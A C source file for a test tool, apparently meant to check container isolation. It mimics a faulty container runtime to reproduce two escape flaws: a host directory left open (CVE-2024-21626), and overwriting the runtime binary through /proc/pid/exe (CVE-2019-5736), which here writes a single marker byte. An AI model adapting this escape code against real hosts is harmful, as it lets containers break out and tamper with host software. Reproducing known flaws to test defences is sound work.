/* A runtime that makes the known mistakes, and what a container makes of them.
 *
 * replay start CGROUP ROOT MISTAKE PROGRAM   runs PROGRAM as a container's first one:
 *     none; closed: a folder of the host is open, and is closed by the exec;
 *     folder: the working directory is outside; descriptor: a folder outside is left open
 *     (CVE-2024-21626, both)
 * replay enter CGROUP PID PROGRAM   runs PROGRAM in the container of PID, as exec probes do
 * replay again                      what a link to /proc/self/exe leads to: the runtime itself
 * replay overwrite NAME             in the container: waits for a process that runs NAME, and
 *     opens its program for writing (CVE-2019-5736); what it writes is what is there */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { PATH = 512, WAIT_MS = 20000, STEP_MS = 2 };

static void stop(const char *what)
{
	fprintf(stderr, "replay: %s: %s\n", what, strerror(errno));
	exit(1);
}

static void join(const char *cgroup)
{
	char path[PATH], pid[16];
	int n = snprintf(pid, sizeof(pid), "%d", (int)getpid()), fd;

	snprintf(path, sizeof(path), "%s/cgroup.procs", cgroup);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0 || write(fd, pid, (size_t)n) != n)
		stop(path);
	close(fd);
}

static void change_root(const char *root)
{
	if (unshare(CLONE_NEWNS) != 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0 ||
	    mount(root, root, NULL, MS_BIND | MS_REC, NULL) != 0 || chdir(root) != 0 ||
	    syscall(SYS_pivot_root, ".", ".") != 0 || umount2(".", MNT_DETACH) != 0 ||
	    chdir("/") != 0 || mount("proc", "/proc", "proc", 0, NULL) != 0)
		stop(root);
}

static void run(char *program, char *first, char *second)
{
	char *const argv[] = { program, first, second, NULL }, *const envp[] = { NULL };

	execve(program, argv, envp);
	printf("refused %s\n", strerror(errno));
	exit(errno == EPERM ? 126 : 127);
}

static int start(char **words)
{
	const char *mistake = words[2];
	int kept = strcmp(mistake, "descriptor") == 0 ? 0 : O_CLOEXEC,
	    outside = open("/", O_RDONLY | O_DIRECTORY | kept);

	join(words[0]);
	change_root(words[1]);
	if (strcmp(mistake, "none") == 0)
		close(outside);
	if (strcmp(mistake, "folder") == 0 && fchdir(outside) != 0)
		stop("its folder");
	run(words[3], words[4], words[4] != NULL ? words[5] : NULL);
	return 1;
}

static int enter(char **words)
{
	char path[PATH];
	int ns;

	snprintf(path, sizeof(path), "/proc/%s/ns/mnt", words[1]);
	ns = open(path, O_RDONLY | O_CLOEXEC);
	join(words[0]);
	if (ns < 0 || setns(ns, CLONE_NEWNS) != 0)
		stop(path);
	run(words[2], "again", NULL);
	return 1;
}

static void rest(void)
{
	usleep(STEP_MS * 1000);
}

static int open_if(const char *link, const char *name)
{
	char path[PATH];
	ssize_t n = readlink(link, path, sizeof(path) - 1);

	if (n <= 0)
		return -1;
	path[n] = '\0';
	return strcmp(path, name) == 0 ? open(link, O_RDONLY | O_CLOEXEC) : -1;
}

/* A descriptor of the program that some process runs; -1: none does. */
static int find(const char *name)
{
	DIR *d = opendir("/proc");
	const struct dirent *e;
	char link[300];
	int fd = -1;

	while (d != NULL && fd < 0 && (e = readdir(d)) != NULL) {
		snprintf(link, sizeof(link), "/proc/%s/exe", e->d_name);
		fd = e->d_name[0] >= '1' && e->d_name[0] <= '9' ? open_if(link, name) : -1;
	}
	if (d != NULL)
		closedir(d);
	return fd;
}

/* A program that runs cannot be written to: it is tried until it has ended. */
static int overwrite(const char *name)
{
	char path[64];
	int fd = -1, again = -1;

	for (int i = 0; fd < 0 && i < WAIT_MS / STEP_MS; i++, rest())
		fd = find(name);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; fd >= 0 && i < WAIT_MS / STEP_MS; i++, rest()) {
		again = open(path, O_WRONLY | O_CLOEXEC);
		if (again >= 0 || errno != ETXTBSY)
			break;
	}
	if (again < 0)
		printf("overwrite: %s\n", fd < 0 ? "nobody came" : strerror(errno));
	else
		printf("overwrite: happened, %zd\n", pwrite(again, "\177", 1, 0));
	fflush(stdout);
	return 0;
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	if (strcmp(what, "start") == 0 && argc >= 6)
		return start(argv + 2);
	if (strcmp(what, "enter") == 0 && argc == 5)
		return enter(argv + 2);
	if (strcmp(what, "overwrite") == 0 && argc == 3)
		return overwrite(argv[2]);
	if (strcmp(what, "again") == 0)
		return sleep(2) != 0;
	fprintf(stderr, "usage: replay start|enter|again|overwrite ...\n");
	return 2;
}
